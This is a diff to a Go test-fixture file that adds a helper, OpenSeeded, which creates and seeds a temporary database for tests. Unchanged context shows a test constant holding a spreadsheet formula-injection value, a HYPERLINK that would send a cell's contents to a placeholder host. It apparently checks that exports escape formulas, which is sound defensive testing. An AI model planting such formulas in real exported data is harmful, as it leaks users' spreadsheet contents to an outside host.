@@ -7,6 +7,7 @@ import (
 	"context"
 	"fmt"
 	"math/rand/v2"
+	"path/filepath"
 	"testing"
 	"time"
 
@@ -56,6 +57,18 @@ const (
 	// Formula is a story that would be a formula in a spreadsheet.
 	Formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")"
 )
+
+// OpenSeeded makes a new database in a temporary folder, closed when the test
+// ends, and seeds it.
+func OpenSeeded(t testing.TB) (*store.DB, Seeded) {
+	t.Helper()
+	db, err := store.Open(context.Background(), filepath.Join(t.TempDir(), "klabot.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { db.Close() })
+	return db, Seed(t, db)
+}
 
 // Seed fills db with the month described in the recap tests (see
 // store/export/recap_test.go for the hand-worked numbers).
